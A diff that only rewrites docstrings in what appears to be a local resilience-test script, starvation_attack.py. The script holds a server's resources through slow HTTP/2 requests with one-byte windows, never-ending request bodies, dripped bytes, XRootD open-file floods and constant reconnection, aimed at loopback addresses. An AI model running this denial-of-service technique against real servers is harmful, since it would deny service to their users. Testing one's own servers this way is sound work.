@@ -1,6 +1,7 @@
-"""A client that holds what a server has for everybody, and connects again when it is dropped and every few seconds: `starvation_attack.py KIND PORT ADDRESSES`.
+"""A client that occupies the shared resources of a server, and reconnects when it is disconnected and every few
+seconds: `starvation_attack.py KIND PORT ADDRESSES`.
 
-It says `ready` when all its connections have sent what they send, and how often it has connected again when it is ended.
+Prints `ready` when all its connections have sent their requests, and the number of reconnects when it is terminated.
 """
 
 from __future__ import annotations
@@ -17,25 +18,25 @@ import time
 
 HOST = "127.0.0.1"
 FIRST_ADDRESS = 10
-"""Clients come from 127.0.0.10 and those after it."""
+"""Last octet of the first client address: clients use 127.0.0.10 and the following addresses."""
 DRIP_S = 1.0
 LIFE_S = (2.0, 6.0)
-"""After a time between these a connection is given up and made again."""
+"""Minimum and maximum lifetime of a connection, after which it is closed and reopened."""
 STREAMS = 128
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """Of HTTP/2 (RFC 9113)."""
+    """Returns an HTTP/2 frame (RFC 9113)."""
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
 def literal(name: int, value: bytes) -> bytes:
-    """A header field of HPACK whose name is in the static table."""
+    """Returns an HPACK header field whose name is in the static table."""
     return bytes([0x40 | name, len(value)]) + value
 
 
 def http2(method: bytes, path: bytes, has_body: bool = False) -> bytes:
-    """A connection with as many requests as it may have, and windows of one byte for their answers."""
+    """Returns the data of a connection with the maximum number of requests, and response windows of one byte."""
     settings = struct.pack(">HI", 4, 1)
     opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings) + frame(8, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
     fields = literal(2, method) + b"\x86" + literal(1, b"x") + literal(4, path)
@@ -43,7 +44,7 @@ def http2(method: bytes, path: bytes, has_body: bool = False) -> bytes:
 
 
 class Bodies:
-    """Bodies of all requests of an HTTP/2 connection, as far as its windows let them go. They do not end."""
+    """Unfinished bodies of all requests of an HTTP/2 connection, sent as far as the windows allow."""
 
     LENGTH = 255 << 10
 
@@ -54,7 +55,7 @@ class Bodies:
         self.left = dict.fromkeys(self.windows, self.LENGTH)
 
     def take(self, received: bytes) -> None:
-        """Windows that the server opens."""
+        """Applies the server's window updates."""
         self.received += received
         while len(self.received) >= 9 and len(self.received) >= 9 + (length := int.from_bytes(self.received[:3])):
             kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9])
@@ -71,7 +72,7 @@ class Bodies:
                 self.windows[stream] += int.from_bytes(payload)
 
     def more(self) -> bytes:
-        """What may be sent now, a little of each."""
+        """Returns the frames that may be sent now, at most one for each stream."""
         frames = []
         for stream in self.windows:
             length = min(16384, self.window, self.windows[stream], self.left[stream])
@@ -84,7 +85,7 @@ class Bodies:
 
 
 def xroot(code: int, parameters: bytes = b"", body: bytes = b"", stream: int = 1, length: int | None = None) -> bytes:
-    """A request of the XRootD protocol; its body may be announced to be longer than it is."""
+    """Returns a request of the XRootD protocol; `length` can announce more bytes than `body` has."""
     return struct.pack(">HH", stream, code) + parameters.ljust(16, b"\0") + struct.pack(">I", len(body) if length is None else length) + body
 
 
@@ -100,15 +101,15 @@ ATTACKS = {
     "unfinished bodies": (20, lambda: http2(b"PROPFIND", b"/", has_body=True)),
     "open files": (5, lambda: LOGIN + OPEN * 4096),
 }
-"""By name: how many connections, and what each sends."""
+"""By name: the number of connections, and the data that each sends."""
 DRIPS = {"long arguments": b"/"}
-"""What goes on sending a byte now and then."""
+"""Attacks that send one more byte every `DRIP_S` seconds."""
 TAKES = {"closed windows", "unfinished bodies", "open files"}
-"""What takes all that comes: little, but for what it does not let come."""
+"""Attacks that read all received data. Closed windows keep that small."""
 
 
 class Connection:
-    """One that is made again when it is dropped, and after some seconds."""
+    """A connection that reopens when it is disconnected, and at the end of its lifetime."""
 
     def __init__(self, kind: str, port: int, address: str) -> None:
         self.kind, self.port, self.address = kind, port, address
@@ -129,7 +130,7 @@ class Connection:
         self.socket.setblocking(False)
 
     def step(self, events: int, drips: bool) -> None:
-        """Goes on sending, takes what comes, or begins again."""
+        """Continues sending, reads received data, or reconnects."""
         try:
             if drips and not self.unsent:
                 self.unsent = memoryview(DRIPS.get(self.kind, b""))
@@ -154,7 +155,7 @@ class Connection:
             self.open()
 
     def wanted(self) -> int:
-        """The events that it waits for."""
+        """Returns the poll events that it waits for."""
         return select.POLLRDHUP | (select.POLLOUT if self.unsent else 0) | (select.POLLIN if self.kind in TAKES else 0)
 
 
